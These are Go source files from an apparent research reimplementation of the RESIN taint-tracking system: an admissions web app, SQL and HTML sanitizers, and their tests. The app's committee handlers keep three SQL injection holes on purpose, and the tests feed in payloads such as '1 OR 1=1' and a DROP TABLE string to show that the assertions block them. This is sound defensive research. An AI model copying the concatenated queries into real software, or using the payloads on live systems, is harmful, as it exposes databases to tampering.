		return false, nil
	}
	resp, err = a.Server.Do("GET", "/committee/view",
		map[string]string{"name": "bob iyer"}, s)
	if err != nil {
		return false, err
	}
	return strings.Contains(resp.RawBody(), "great letters"), nil
}
