package admissions

// The RESIN SQL injection assertion for the admissions system (Table 4:
// 9 LoC in the paper). Strategy 2 of §5.3: untrusted characters may not
// land in the structure of any query — keywords, identifiers, operators,
// whitespace, comments. Inputs are already tainted by the HTTP substrate;
// nothing else changes.

import (
	_ "embed"
)

// AssertionSource is this file's source, embedded for LoC accounting.
//
//go:embed assertions.go
var AssertionSource string

// BEGIN ASSERTION: admissions-sql-injection

// enableInjectionAssertion turns on the tainted-structure check in the
// database's RESIN SQL filter.
func (a *App) enableInjectionAssertion() {
	a.DB.Filter().RejectTaintedStructure(true)
}

// END ASSERTION
