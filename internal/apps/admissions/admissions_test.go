package admissions

import (
	"strings"
	"testing"
)

func checkAttack(t *testing.T, name string, fn func(bool) (bool, error)) {
	t.Helper()
	hit, _ := fn(false)
	if !hit {
		t.Errorf("%s: vulnerability must exist without the assertion", name)
	}
	hit, blockErr := fn(true)
	if hit {
		t.Errorf("%s: assertion failed to stop the attack", name)
	}
	if blockErr == nil {
		t.Errorf("%s: attack should be blocked by an assertion error", name)
	}
}

func TestInjectionAttacks(t *testing.T) {
	checkAttack(t, "search", AttackSearchInjection)
	checkAttack(t, "setscore", AttackScoreInjection)
	checkAttack(t, "comment", AttackCommentInjection)
}

func TestLegitimateSearchUnbroken(t *testing.T) {
	for _, on := range []bool{false, true} {
		ok, err := LegitimateSearch(on)
		if err != nil || !ok {
			t.Errorf("assertions=%v: ok=%v err=%v", on, ok, err)
		}
	}
}

func TestScoresUntouchedAfterBlockedAttack(t *testing.T) {
	a := newInstance(true)
	s := a.Server.NewSession("intern")
	a.Server.Do("GET", "/committee/setscore",
		map[string]string{"score": "100", "id": "1 OR 1=1"}, s)
	if a.Score(1) != 91 || a.Score(2) != 84 || a.Score(3) != 88 {
		t.Error("blocked attack must not modify any row")
	}
}

func TestViewMissingApplicant(t *testing.T) {
	a := newInstance(true)
	s := a.Server.NewSession("m")
	resp, err := a.Server.Do("GET", "/committee/view", map[string]string{"name": "ghost"}, s)
	if err == nil || resp.Status != 404 {
		t.Errorf("missing applicant: %v %d", err, resp.Status)
	}
}

func TestApostropheNameThroughSanitizedPath(t *testing.T) {
	// The correctly-quoted path handles hostile-looking names fine even
	// with the assertion on: quoting keeps the taint inside the literal.
	a := newInstance(true)
	a.DB.MustExec("INSERT INTO applicants (id, name, gpa, score, comment) VALUES (4, 'mary o''brien', '4.5', 80, 'solid')")
	s := a.Server.NewSession("m")
	resp, err := a.Server.Do("GET", "/committee/view", map[string]string{"name": "mary o'brien"}, s)
	if err != nil {
		t.Fatalf("apostrophe name through quoted path: %v", err)
	}
	if !strings.Contains(resp.RawBody(), "solid") {
		t.Errorf("body = %q", resp.RawBody())
	}
}

func TestAssertionSourceEmbedded(t *testing.T) {
	if !strings.Contains(AssertionSource, "BEGIN ASSERTION: admissions-sql-injection") {
		t.Error("assertion marker missing")
	}
}
