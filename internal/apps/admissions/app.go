// Package admissions re-implements the MIT EECS graduate admissions
// system slice the RESIN paper evaluates. The original programmers were
// careful about SQL injection in the applicant-facing pages, but the
// assertion revealed three previously-unknown injection vulnerabilities
// in the admission committee's internal user interface (Table 4: 3
// discovered, 3 prevented, with a 9-LoC assertion).
//
// The assertion is §5.3 strategy 2: the SQL filter tokenizes the final
// query and rejects untrusted characters in the query's structure. No
// sanitizer changes are needed, which is why the assertion is so short.
package admissions

import (
	"fmt"
	"strconv"

	"resin/internal/core"
	"resin/internal/httpd"
	"resin/internal/sanitize"
	"resin/internal/sqldb"
)

// App is one admissions-system instance.
type App struct {
	RT     *core.Runtime
	DB     *sqldb.DB
	Server *httpd.Server

	assertions bool

	// Prepared statements for the correctly-written pages: binding
	// makes injection through these structurally impossible, and the
	// strategy-2 assertion skips bound slots by construction (the
	// query text holds only `?`). The three buggy committee handlers
	// below keep their faithful string splicing — they are what the
	// assertion is evaluated against.
	selView  *sqldb.Stmt
	selScore *sqldb.Stmt
}

// New builds the admissions system: applicant records plus the internal
// committee UI handlers, three of which build queries by concatenation.
func New(rt *core.Runtime, withAssertions bool) *App {
	a := &App{
		RT:         rt,
		DB:         sqldb.Open(rt),
		Server:     httpd.NewServer(rt),
		assertions: withAssertions,
	}
	a.DB.MustExec("CREATE TABLE applicants (id INT, name TEXT, gpa TEXT, score INT, comment TEXT)")
	// Applicant pages look rows up by id; index the key column.
	a.DB.MustExec("CREATE INDEX ON applicants (id)")
	a.DB.MustExec("INSERT INTO applicants (id, name, gpa, score, comment) VALUES " +
		"(1, 'alice chen', '4.9', 91, 'strong systems background'), " +
		"(2, 'bob iyer', '4.7', 84, 'great letters'), " +
		"(3, 'carol novak', '4.8', 88, 'TOP SECRET: borderline case')")
	a.selView = a.DB.MustPrepare("SELECT name, score, comment FROM applicants WHERE name = ?")
	a.selScore = a.DB.MustPrepare("SELECT score FROM applicants WHERE id = ?")
	if withAssertions {
		a.enableInjectionAssertion()
	}
	a.Server.Handle("/committee/search", a.handleSearch)
	a.Server.Handle("/committee/setscore", a.handleSetScore)
	a.Server.Handle("/committee/comment", a.handleComment)
	a.Server.Handle("/committee/view", a.handleView)
	return a
}

// handleSearch is discovered bug #1: the name is concatenated into the
// quoted literal without escaping, so a quote in the input reshapes the
// WHERE clause.
func (a *App) handleSearch(req *httpd.Request, resp *httpd.Response) error {
	q := core.Concat(
		core.NewString("SELECT name, gpa, score FROM applicants WHERE name = '"),
		req.Param("name"), // BUG: unescaped
		core.NewString("'"),
	)
	//resin:vet-allow sql-concat deliberate Table 4 bug #1: search concatenates the name into a quoted literal; kept so the SQL-filter assertion is what stops the injection
	res, err := a.DB.Query(q)
	if err != nil {
		return err
	}
	for i := 0; i < res.Len(); i++ {
		out := core.Format("%s gpa=%s score=%d\n",
			sanitize.HTMLEscape(res.Get(i, "name").Str),
			sanitize.HTMLEscape(res.Get(i, "gpa").Str),
			res.Get(i, "score").Int)
		if werr := resp.Write(out); werr != nil {
			return werr
		}
	}
	return nil
}

// handleSetScore is discovered bug #2: the id is concatenated raw, so
// "1 OR 1=1" rewrites every applicant's score.
func (a *App) handleSetScore(req *httpd.Request, resp *httpd.Response) error {
	q := core.Concat(
		core.NewString("UPDATE applicants SET score = "),
		req.Param("score"), // BUG: unescaped (numbers "don't need quoting")
		core.NewString(" WHERE id = "),
		req.Param("id"), // BUG: unescaped
	)
	//resin:vet-allow sql-concat deliberate Table 4 bug #2: set-score splices unquoted numeric params; kept so the SQL-filter assertion is what stops the injection
	res, err := a.DB.Query(q)
	if err != nil {
		return err
	}
	return resp.WriteRaw("updated " + strconv.Itoa(res.Affected))
}

// handleComment is discovered bug #3: the comment text is concatenated
// into an UPDATE without escaping, so a crafted comment appends extra SET
// clauses.
func (a *App) handleComment(req *httpd.Request, resp *httpd.Response) error {
	q := core.Concat(
		core.NewString("UPDATE applicants SET comment = '"),
		req.Param("text"), // BUG: unescaped
		core.NewString("' WHERE id = "),
		req.Param("id"), // BUG: unescaped
	)
	//resin:vet-allow sql-concat deliberate Table 4 bug #3: comment update concatenates text and id; kept so the SQL-filter assertion is what stops the injection
	res, err := a.DB.Query(q)
	if err != nil {
		return err
	}
	return resp.WriteRaw("updated " + strconv.Itoa(res.Affected))
}

// handleView is a correctly written page (the applicant name binds as a
// value), for checking that the assertion does not break legitimate
// queries.
func (a *App) handleView(req *httpd.Request, resp *httpd.Response) error {
	res, err := a.selView.Query(req.Param("name"))
	if err != nil {
		return err
	}
	if res.Len() == 0 {
		resp.Status = 404
		return fmt.Errorf("admissions: no applicant %q", req.ParamRaw("name"))
	}
	return resp.Write(core.Format("%s score=%d comment=%s",
		sanitize.HTMLEscape(res.Get(0, "name").Str),
		res.Get(0, "score").Int,
		sanitize.HTMLEscape(res.Get(0, "comment").Str)))
}

// Score returns an applicant's current score (test helper).
func (a *App) Score(id int) int64 {
	res, err := a.selScore.Query(id)
	if err != nil || res.Len() == 0 {
		return -1
	}
	return res.Get(0, "score").Int.Value()
}
