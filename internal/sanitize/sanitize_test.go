package sanitize

import (
	"strings"
	"testing"
	"testing/quick"

	"resin/internal/core"
)

func TestTaintMarksEveryByte(t *testing.T) {
	s := Taint(core.NewString("user input"), "http:q")
	if !s.HasPolicyEverywhere(IsUntrusted) {
		t.Error("every byte should be untrusted")
	}
	ps := s.Policies().Policies()
	if len(ps) != 1 {
		t.Fatalf("policies = %d", len(ps))
	}
	if ps[0].(*UntrustedData).Source != "http:q" {
		t.Errorf("source = %q", ps[0].(*UntrustedData).Source)
	}
}

func TestSQLQuoteEscapes(t *testing.T) {
	cases := []struct{ in, want string }{
		{"abc", "'abc'"},
		{"o'brien", "'o''brien'"},
		{`back\slash`, `'back\\slash'`},
		{"nul\x00byte", "'nulbyte'"},
		{"", "''"},
		{"'; DROP TABLE users --", "'''; DROP TABLE users --'"},
	}
	for _, c := range cases {
		got := SQLQuote(core.NewString(c.in))
		if got.Raw() != c.want {
			t.Errorf("SQLQuote(%q) = %q, want %q", c.in, got.Raw(), c.want)
		}
		if !got.HasPolicyEverywhere(IsSQLSanitized) {
			t.Errorf("SQLQuote(%q): not fully marked sanitized", c.in)
		}
	}
}

func TestSQLQuoteKeepsUntrustedMark(t *testing.T) {
	in := Taint(core.NewString("o'brien"), "form")
	out := SQLQuote(in)
	// Interior bytes keep UntrustedData AND gain SQLSanitized; the added
	// quotes are sanitized but not untrusted.
	if _, _, bad := UnsanitizedSQL(out); bad {
		t.Error("quoted data must count as sanitized")
	}
	inner := out.Slice(1, out.Len()-1)
	if !inner.HasPolicyEverywhere(IsUntrusted) {
		t.Error("escaped payload bytes must keep their UntrustedData mark")
	}
}

func TestHTMLEscape(t *testing.T) {
	cases := []struct{ in, want string }{
		{"plain", "plain"},
		{"<script>", "&lt;script&gt;"},
		{`a&b"c'd`, "a&amp;b&quot;c&#39;d"},
		{"", ""},
	}
	for _, c := range cases {
		got := HTMLEscape(core.NewString(c.in))
		if got.Raw() != c.want {
			t.Errorf("HTMLEscape(%q) = %q, want %q", c.in, got.Raw(), c.want)
		}
		if c.in != "" && !got.HasPolicyEverywhere(IsHTMLSanitized) {
			t.Errorf("HTMLEscape(%q): not fully marked sanitized", c.in)
		}
	}
}

func TestHTMLEscapeEntityInheritsPolicies(t *testing.T) {
	in := Taint(core.NewString("<"), "form")
	out := HTMLEscape(in)
	if out.Raw() != "&lt;" {
		t.Fatalf("raw = %q", out.Raw())
	}
	if !out.HasPolicyEverywhere(IsUntrusted) {
		t.Error("entity bytes must inherit the replaced byte's policies")
	}
}

func TestUnsanitizedSQLDetection(t *testing.T) {
	q := core.Concat(
		core.NewString("SELECT * FROM t WHERE n="),
		Taint(core.NewString("1 OR 1=1"), "form"),
	)
	s, e, found := UnsanitizedSQL(q)
	if !found {
		t.Fatal("unsanitized tainted bytes must be detected")
	}
	if q.Raw()[s:e] != "1 OR 1=1" {
		t.Errorf("range [%d:%d) = %q", s, e, q.Raw()[s:e])
	}
	// After quoting: clean.
	q2 := core.Concat(
		core.NewString("SELECT * FROM t WHERE n="),
		SQLQuote(Taint(core.NewString("1 OR 1=1"), "form")),
	)
	if _, _, found := UnsanitizedSQL(q2); found {
		t.Error("sanitized data flagged")
	}
	// Untainted query: clean.
	if _, _, found := UnsanitizedSQL(core.NewString("SELECT 1")); found {
		t.Error("untainted query flagged")
	}
}

func TestUnsanitizedHTMLDetection(t *testing.T) {
	page := core.Concat(
		core.NewString("<p>"),
		Taint(core.NewString("<script>x</script>"), "whois"),
		core.NewString("</p>"),
	)
	if _, _, found := UnsanitizedHTML(page); !found {
		t.Fatal("raw tainted HTML must be detected")
	}
	page2 := core.Concat(
		core.NewString("<p>"),
		HTMLEscape(Taint(core.NewString("<script>"), "whois")),
		core.NewString("</p>"),
	)
	if _, _, found := UnsanitizedHTML(page2); found {
		t.Error("escaped data flagged")
	}
}

// Cross-sanitizer confusion: SQL quoting does NOT make data HTML-safe and
// vice versa — the reason the paper appends markers instead of removing
// UntrustedData ("this strategy ensures that the programmer uses the
// correct sanitizer").
func TestWrongSanitizerStillFlagged(t *testing.T) {
	in := Taint(core.NewString("payload"), "form")
	sqlQuoted := SQLQuote(in)
	if _, _, found := UnsanitizedHTML(sqlQuoted); !found {
		t.Error("SQL-quoted data must still be unsanitized for HTML")
	}
	htmlEscaped := HTMLEscape(in)
	if _, _, found := UnsanitizedSQL(htmlEscaped); !found {
		t.Error("HTML-escaped data must still be unsanitized for SQL")
	}
}

func TestPoliciesSerializable(t *testing.T) {
	for _, p := range []core.Policy{
		&UntrustedData{Source: "s"},
		&SQLSanitized{},
		&HTMLSanitized{},
	} {
		enc, err := core.EncodePolicy(p)
		if err != nil {
			t.Fatalf("%T: %v", p, err)
		}
		dec, err := core.DecodePolicy(enc)
		if err != nil {
			t.Fatalf("%T: %v", p, err)
		}
		if u, ok := p.(*UntrustedData); ok {
			if dec.(*UntrustedData).Source != u.Source {
				t.Error("source lost in round trip")
			}
		}
	}
}

// Property: for any input, SQLQuote produces exactly one SQL string
// literal — the payload can never terminate the quote. We check by
// scanning the quoted form the way a SQL lexer would.
func TestQuickSQLQuoteNeverEscapesLiteral(t *testing.T) {
	f := func(payload string) bool {
		q := SQLQuote(core.NewString(payload)).Raw()
		if len(q) < 2 || q[0] != '\'' || q[len(q)-1] != '\'' {
			return false
		}
		body := q[1 : len(q)-1]
		i := 0
		for i < len(body) {
			switch body[i] {
			case '\'':
				// Must be a doubled quote.
				if i+1 >= len(body) || body[i+1] != '\'' {
					return false
				}
				i += 2
			case '\\':
				if i+1 >= len(body) || body[i+1] != '\\' {
					return false
				}
				i += 2
			case 0:
				return false // NULs must have been dropped
			default:
				i++
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

// Property: HTMLEscape output never contains raw <, >, or unescaped &.
func TestQuickHTMLEscapeOutputIsInert(t *testing.T) {
	f := func(payload string) bool {
		out := HTMLEscape(core.NewString(payload)).Raw()
		if strings.ContainsAny(out, "<>\"'") {
			return false
		}
		// Every & must begin a known entity.
		for i := 0; i < len(out); i++ {
			if out[i] != '&' {
				continue
			}
			ok := false
			for _, ent := range []string{"&amp;", "&lt;", "&gt;", "&quot;", "&#39;"} {
				if strings.HasPrefix(out[i:], ent) {
					ok = true
					break
				}
			}
			if !ok {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}
