// Package sanitize provides the taint and sanitization policy classes of
// §5.3 of the RESIN paper, together with the sanitizing functions that
// attach them.
//
// The first strategy for preventing SQL injection and cross-site scripting
// works like this:
//
//  1. untrusted input is annotated with an UntrustedData policy the moment
//     it enters the runtime;
//  2. the application's existing sanitization functions are changed to
//     attach a SQLSanitized (resp. HTMLSanitized) policy to freshly
//     sanitized data;
//  3. the SQL (resp. HTML) filter object rejects any query that contains
//     characters carrying UntrustedData but not SQLSanitized (resp.
//     HTMLSanitized).
//
// The second strategy skips the sanitized markers and instead parses the
// final query/document, rejecting UntrustedData characters that land in
// structural positions; it is implemented by the SQL filter in
// internal/sqldb and the HTML checker in internal/httpd.
package sanitize

import (
	"strings"

	"resin/internal/core"
)

// UntrustedData marks data that arrived from outside the application:
// HTTP parameters, cookies, socket reads, whois responses. Source records
// where the data came from, for diagnostics.
type UntrustedData struct {
	Source string `json:"source"`
}

// ExportCheck always passes: UntrustedData by itself does not restrict
// exports; it exists to be *found* by SQL/HTML filters.
func (p *UntrustedData) ExportCheck(ctx *core.Context) error { return nil }

// SQLSanitized marks data that passed through the SQL quoting function.
type SQLSanitized struct{}

// ExportCheck always passes.
func (p *SQLSanitized) ExportCheck(ctx *core.Context) error { return nil }

// HTMLSanitized marks data that passed through the HTML escaping function.
type HTMLSanitized struct{}

// ExportCheck always passes.
func (p *HTMLSanitized) ExportCheck(ctx *core.Context) error { return nil }

func init() {
	core.RegisterPolicyClass("resin.UntrustedData", &UntrustedData{})
	core.RegisterPolicyClass("resin.SQLSanitized", &SQLSanitized{})
	core.RegisterPolicyClass("resin.HTMLSanitized", &HTMLSanitized{})
}

// IsUntrusted reports whether p is an UntrustedData policy.
func IsUntrusted(p core.Policy) bool {
	_, ok := p.(*UntrustedData)
	return ok
}

// IsSQLSanitized reports whether p is a SQLSanitized policy.
func IsSQLSanitized(p core.Policy) bool {
	_, ok := p.(*SQLSanitized)
	return ok
}

// IsHTMLSanitized reports whether p is an HTMLSanitized policy.
func IsHTMLSanitized(p core.Policy) bool {
	_, ok := p.(*HTMLSanitized)
	return ok
}

// Taint attaches an UntrustedData policy (with the given source tag) to
// every byte of data. Input boundaries call this.
func Taint(data core.String, source string) core.String {
	return data.WithPolicy(&UntrustedData{Source: source})
}

// SQLQuote is the application's SQL string-quoting function, modified per
// §5.3 to attach a SQLSanitized policy to the freshly sanitized data. It
// escapes single quotes, backslashes and NULs and wraps the result in
// single quotes. Bytes copied from the input keep their original policies
// (so UntrustedData survives — the filter checks for the *pair*), and the
// whole result additionally carries SQLSanitized.
func SQLQuote(data core.String) core.String {
	var b core.Builder
	b.AppendRaw("'")
	for i := 0; i < data.Len(); i++ {
		c, ps := data.ByteAt(i)
		switch c {
		case '\'':
			b.AppendBytePolicies('\'', ps)
			b.AppendBytePolicies('\'', ps)
		case '\\':
			b.AppendBytePolicies('\\', ps)
			b.AppendBytePolicies('\\', ps)
		case 0:
			// Drop NUL bytes outright.
		default:
			b.AppendBytePolicies(c, ps)
		}
	}
	b.AppendRaw("'")
	return b.String().WithPolicy(&SQLSanitized{})
}

// htmlReplacer maps HTML-significant bytes to their entities.
var htmlReplacements = map[byte]string{
	'&':  "&amp;",
	'<':  "&lt;",
	'>':  "&gt;",
	'"':  "&quot;",
	'\'': "&#39;",
}

// HTMLEscape is the application's HTML escaping function, modified per
// §5.3 to attach an HTMLSanitized policy. Escaped entities inherit the
// policies of the byte they replace.
func HTMLEscape(data core.String) core.String {
	var b core.Builder
	for i := 0; i < data.Len(); i++ {
		c, ps := data.ByteAt(i)
		if rep, ok := htmlReplacements[c]; ok {
			for j := 0; j < len(rep); j++ {
				b.AppendBytePolicies(rep[j], ps)
			}
			continue
		}
		b.AppendBytePolicies(c, ps)
	}
	return b.String().WithPolicy(&HTMLSanitized{})
}

// UnsanitizedSQL reports whether data contains a byte carrying
// UntrustedData but not SQLSanitized, returning the first such range.
// This is the strategy-1 check the SQL filter runs on outgoing queries.
func UnsanitizedSQL(data core.String) (start, end int, found bool) {
	return findUnsanitized(data, IsSQLSanitized)
}

// UnsanitizedHTML is the HTML-side strategy-1 check.
func UnsanitizedHTML(data core.String) (start, end int, found bool) {
	return findUnsanitized(data, IsHTMLSanitized)
}

func findUnsanitized(data core.String, sanitized func(core.Policy) bool) (int, int, bool) {
	found := false
	var fs, fe int
	data.EachTaintedSpan(func(s, e int, ps *core.PolicySet) error { //nolint:errcheck
		if found {
			return nil
		}
		if ps.Any(IsUntrusted) && !ps.Any(sanitized) {
			fs, fe, found = s, e, true
		}
		return nil
	})
	return fs, fe, found
}

// StripQuotes removes the surrounding single quotes added by SQLQuote;
// used by tests that need to compare sanitized payloads.
func StripQuotes(s string) string {
	return strings.TrimSuffix(strings.TrimPrefix(s, "'"), "'")
}
