package lineage_test

import (
	"testing"

	"resin/internal/core"
	"resin/internal/lineage"
)

// FuzzLineageTrace drives an arbitrary byte-encoded program of
// instrumented operations over a small pool of tracked strings, then
// checks the monitor's two safety properties: Trace never panics, and
// every edge it reports names an (op, node) the program actually
// executed with tracked input. The harness keeps a may-have-recorded
// superset (it marks an op whenever any input was tainted), so a trace
// edge outside the set is a genuine fabrication.
func FuzzLineageTrace(f *testing.F) {
	f.Add([]byte{0, 1, 2, 0, 3, 1, 4, 0, 5, 2})
	f.Add([]byte{3, 0, 3, 0, 3, 0})
	f.Add([]byte{9, 250, 17, 42, 1, 1, 0, 0, 255, 254})
	f.Fuzz(func(t *testing.T, program []byte) {
		// Bound the run: long programs add no new op interleavings, and
		// unbounded concat growth makes span-quadratic filter checks
		// dominate the 20s CI budget.
		if len(program) > 128 {
			program = program[:128]
		}
		lineage.Reset()
		lineage.Enable()
		defer func() {
			lineage.Disable()
			lineage.Reset()
		}()

		rt := core.NewRuntime()
		ch := core.NewChannel(rt, core.KindHTTP, core.ExportCheckFilter{})
		pool := []core.String{
			core.NewStringPolicy("alpha", &testSecret{Owner: "alpha"}),
			core.NewStringPolicy("beta", &testSecret{Owner: "beta"}),
			core.NewString("plain"),
		}
		executed := map[string]bool{}
		mark := func(op, node string) { executed[op+"|"+node] = true }

		for i := 0; i+1 < len(program); i += 2 {
			op, sel := program[i]%6, int(program[i+1])%len(pool)
			v := pool[sel]
			w := pool[(sel+1)%len(pool)]
			switch op {
			case 0: // concat (bounded: repeated concat doubles lengths)
				if v.Len()+w.Len() > 256 {
					continue
				}
				pool[sel] = core.Concat(v, w)
				if v.IsTainted() || w.IsTainted() {
					mark("concat", "core.concat")
				}
			case 1: // builder append
				var b core.Builder
				b.Append(v)
				pool[sel] = b.String()
				if v.IsTainted() {
					mark("append", "core.append")
				}
			case 2: // replace
				pool[sel] = v.Replace("a", core.NewString("A"), -1)
				if v.IsTainted() {
					mark("replace", "core.replace")
				}
			case 3: // serialize + deserialize round trip
				ann, err := core.EncodeSpans(v)
				if err != nil {
					t.Fatalf("EncodeSpans: %v", err)
				}
				if v.IsTainted() {
					mark("serialize", "core.encode")
				}
				dec, err := core.DecodeSpans(v.Raw(), ann)
				if err != nil {
					t.Fatalf("DecodeSpans: %v", err)
				}
				pool[sel] = dec
				if dec.IsTainted() {
					mark("deserialize", "core.decode")
				}
			case 4: // channel export through the default filter
				if err := ch.Write(v); err != nil {
					t.Fatalf("permissive policy denied: %v", err)
				}
				if v.IsTainted() {
					mark("filter-pass", "filter:ExportCheckFilter(http)")
					// The channel accumulates released output through
					// Builder.Append, so a successful tracked write also
					// executes an append.
					mark("append", "core.append")
				}
			case 5: // union derivation
				pool[sel] = core.NewString(v.Raw()).WithPolicySet(v.Policies().Union(w.Policies()))
			}
		}

		for _, v := range pool {
			edges := lineage.Trace(v) // must never panic
			var last uint64
			for _, e := range edges {
				if !executed[e.Op+"|"+e.To] {
					t.Fatalf("trace reports %s at %s, which never executed; trace:\n%s",
						e.Op, e.To, lineage.RenderText(edges))
				}
				if e.Seq <= last {
					t.Fatalf("Seq not strictly increasing:\n%s", lineage.RenderText(edges))
				}
				last = e.Seq
			}
		}
	})
}
