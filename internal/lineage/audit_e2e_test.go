package lineage_test

import (
	"context"
	"net"
	"strconv"
	"strings"
	"testing"
	"time"

	"resin/internal/apps/forum"
	"resin/internal/core"
	"resin/internal/lineage"
	"resin/internal/wire"
)

// TestAuditAcrossHTTPSQLWire is the PR's acceptance property: a value
// enters through the httpd taint filter, is stored and re-loaded through
// the SQL shadow column, travels over a live wire connection, and the
// /audit endpoint returns the complete edge list in execution order.
// The trace is replayed against the boundaries the test actually drove:
// every required crossing must appear, in the order the ops ran.
func TestAuditAcrossHTTPSQLWire(t *testing.T) {
	lineage.Reset()
	lineage.Enable()
	defer func() {
		lineage.Disable()
		lineage.Reset()
	}()

	rt := core.NewRuntime()
	app := forum.New(rt, nil, true)
	sess := app.Server.NewSession("admin")

	// 1. httpd: the body parameter crosses the taint read filter.
	resp, err := app.Server.Do("POST", "/post", map[string]string{
		"forum": "1", "subject": "audit probe", "body": "lineage-audit-probe-body",
	}, sess)
	if err != nil {
		t.Fatalf("post: %v", err)
	}
	reply := resp.RawBody()
	if !strings.HasPrefix(reply, "posted #") {
		t.Fatalf("unexpected post reply %q", reply)
	}
	id, err := strconv.Atoi(strings.TrimPrefix(reply, "posted #"))
	if err != nil {
		t.Fatalf("parse post id from %q: %v", reply, err)
	}

	// 2+3. SQL + wire: serve the app's database over TCP and select the
	// body back through a real connection. The server side re-decodes
	// the shadow column (sql-load) and encodes the result row
	// (wire-send); the client side restores it (wire-recv).
	lis, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := wire.NewServer(app.DB, wire.Config{})
	go srv.Serve(lis) //nolint:errcheck
	defer func() {
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		defer cancel()
		srv.Shutdown(ctx) //nolint:errcheck
	}()
	conn, err := wire.Dial(lis.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	res, err := conn.QueryRaw("SELECT body FROM messages WHERE id = ?", id)
	if err != nil {
		t.Fatalf("wire select: %v", err)
	}
	if res.Len() != 1 {
		t.Fatalf("wire select returned %d rows", res.Len())
	}
	body := res.Get(0, "body").Str
	if !body.IsTainted() {
		t.Fatal("body lost its policies over the wire")
	}

	// Replay the trace of the wire-returned value against the crossings
	// the test drove, in execution order.
	wantOrder := [][2]string{
		{"filter-pass", "filter:TaintReadFilter(http)"}, // param read (source side)
		{"sql-store", "sql:messages.body"},              // INSERT shadow column
		{"sql-load", "sql:messages.body"},               // SELECT re-decode
		{"wire-send", "wire.frame"},                     // server encodes the row
		{"wire-recv", "wire.frame"},                     // client restores it
	}
	edges := lineage.Trace(body)
	i := 0
	var last uint64
	for _, e := range edges {
		if e.Seq <= last {
			t.Fatalf("Seq not strictly increasing:\n%s", lineage.RenderText(edges))
		}
		last = e.Seq
		if i < len(wantOrder) && e.Op == wantOrder[i][0] && e.To == wantOrder[i][1] {
			i++
		}
	}
	if i != len(wantOrder) {
		t.Fatalf("trace missing crossing %d %v; got:\n%s", i, wantOrder[i], lineage.RenderText(edges))
	}

	// 4. /audit renders the same trace over HTTP, markers in the same
	// order.
	aresp, err := app.Server.Do("GET", "/audit", map[string]string{"msg": strconv.Itoa(id)}, sess)
	if err != nil {
		t.Fatalf("audit: %v", err)
	}
	text := aresp.RawBody()
	if !strings.HasPrefix(text, "audit message #"+strconv.Itoa(id)) {
		t.Fatalf("audit reply missing summary line:\n%s", text)
	}
	pos := 0
	for _, marker := range []string{
		"filter:TaintReadFilter(http)",
		"sql-store", "sql:messages.body",
		"sql-load",
		"wire-send", "wire-recv",
	} {
		idx := strings.Index(text[pos:], marker)
		if idx < 0 {
			t.Fatalf("/audit output missing %q after offset %d:\n%s", marker, pos, text)
		}
		pos += idx
	}
}

// TestAuditDisabled404: with recording off, the endpoint reports 404 and
// does not probe as live.
func TestAuditDisabled404(t *testing.T) {
	lineage.Disable()
	lineage.Reset()

	rt := core.NewRuntime()
	app := forum.New(rt, nil, true)
	resp, err := app.Server.Do("GET", "/audit", map[string]string{"msg": "1"}, app.Server.NewSession("admin"))
	if err != nil {
		t.Fatalf("audit: %v", err)
	}
	if resp.Status != 404 {
		t.Fatalf("audit with lineage off answered %d, want 404", resp.Status)
	}
}
