// Package lineage is the runtime flow monitor: it records provenance
// edges as tracked values cross instrumented boundaries (string ops,
// serialization, SQL shadow-column round-trips, wire frames, filter
// verdicts), and answers "show every boundary this value crossed".
//
// RESIN's policy sets say what a value carries; lineage says where it
// has been. Edges are keyed on policy *content*, not object identity:
// a password re-instantiated by an annotation decode on the far side of
// a SQL or wire round-trip continues the same trace, because its policy
// class + data fields serialize to the same canonical label. Interned
// set pointers (intern.go) make the label lookup a single map hit per
// distinct set instance.
//
// Recording is off by default and zero-cost while off: instrumented
// sites in core and the boundary packages check one package-level
// atomic gate (core.LineageEnabled) before computing anything. The
// monitor installs its callbacks into core's hook points at package
// init (core itself must stay stdlib-only, so the dependency points
// this way). docs/LINEAGE.md is the normative spec.
package lineage

import (
	"fmt"
	"sort"
	"strings"
	"sync"

	"resin/internal/core"
)

// Edge is one recorded provenance step: a value whose policy content is
// Set crossed boundary node To via operation Op, having last been seen
// at node From ("" when this is the first recorded crossing — the
// source). Seq is a global monotonic order over all recorded edges.
type Edge struct {
	Seq  uint64
	Op   string // crossing kind: "append", "serialize", "sql-store", "filter-deny", ...
	From string // previous node for this policy content; "" at the source
	To   string // node crossed: "core.encode", "sql:users.password", "wire.frame", ...
	Set  string // rendered policy set at record time, e.g. "{hotcrp.PasswordPolicy}"
}

const (
	// maxStates bounds tracked policy contents; at cap the state table
	// flushes wholesale (the repo's shared eviction idiom: churn
	// re-warms, it never permanently disables the monitor).
	maxStates = 8192
	// maxEventsPerState bounds stored edges per policy content; beyond
	// it edges advance the cursor but are counted as dropped.
	maxEventsPerState = 512
	// maxParents bounds derivation links per policy content.
	maxParents = 16
	// maxLabelMemo bounds the set-pointer → label memo.
	maxLabelMemo = 16384
)

// setState is everything the monitor knows about one policy content.
type setState struct {
	label   string
	last    string // most recent node; becomes From of the next edge
	events  []Edge
	parents []string // labels of sets this content was derived from (unions)
	dropped int
}

var mon struct {
	mu       sync.Mutex
	seq      uint64
	labels   map[*core.PolicySet]string // pointer → content-label memo
	states   map[string]*setState       // content label → state
	seenPair map[string]bool            // (from, to) pairs already observed
	observer func(Edge)
	flushes  int
}

func init() {
	core.SetLineageHooks(record, derive)
}

// Enable turns lineage recording on (the Reiss always-on mode when left
// enabled in production). Instrumented sites start reporting edges.
func Enable() { core.SetLineageGate(true) }

// Disable turns recording off; already-recorded state is kept and
// remains queryable until Reset.
func Disable() { core.SetLineageGate(false) }

// Enabled reports whether recording is on.
func Enabled() bool { return core.LineageEnabled() }

// Reset discards all recorded state and restarts the sequence counter.
func Reset() {
	mon.mu.Lock()
	defer mon.mu.Unlock()
	mon.seq = 0
	mon.labels = nil
	mon.states = nil
	mon.seenPair = nil
	mon.flushes = 0
}

// SetObserver installs a callback invoked once per never-before-seen
// (From, To) node pair, at the moment the edge is recorded — before any
// assertion at that boundary fires. A nil fn removes the observer. The
